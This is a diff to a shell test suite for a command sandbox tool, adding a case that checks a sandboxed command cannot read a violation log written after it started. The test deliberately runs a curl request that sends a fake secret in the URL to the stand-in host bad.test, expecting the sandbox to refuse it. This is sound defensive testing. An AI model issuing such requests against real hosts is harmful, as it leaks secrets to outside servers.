@@ -188,4 +188,20 @@ if [ -n "$FSOCK" ]; then
 	like "…and still serves the session" "$out" "^pid +[0-9]+"
 fi
 
+# --- the violation log, made after a sandbox started, is hidden from it too ---
+# (the command lines of the session's other commands: a long-running sandbox, an interactive
+# shell's, started before the first refusal was logged read every later record)
+"$SBXSH" session stop > /dev/null 2>&1
+export XDG_STATE_HOME="$P/state"
+VLOG="$XDG_STATE_HOME/sbxsh/violations.jsonl"
+"$SBXSH" --config "$T/proxy.ini" -c ": > waiting2; i=0
+	while [ ! -e '$VLOG' ] && [ \$i -lt 300 ]; do sleep 0.1; i=\$((i + 1)); done
+	sleep 1; echo \"log: \$(head -c 400 '$VLOG' 2>&1)\"" > "$T/vlog.out" 2>&1 &
+RD=$!
+check "a command runs before the violation log exists" wait_for test -e "$P/waiting2"
+"$SBXSH" --config "$T/proxy.ini" -c 'curl -s -o /dev/null http://bad.test/SECRET-0240' > /dev/null 2>&1
+like "another command's refusal is logged, with its command line" "$(cat "$VLOG")" "SECRET-0240"
+wait "$RD"
+unlike "…and the first command does not read it" "$(cat "$T/vlog.out")" "SECRET-0240"
+
 done_testing
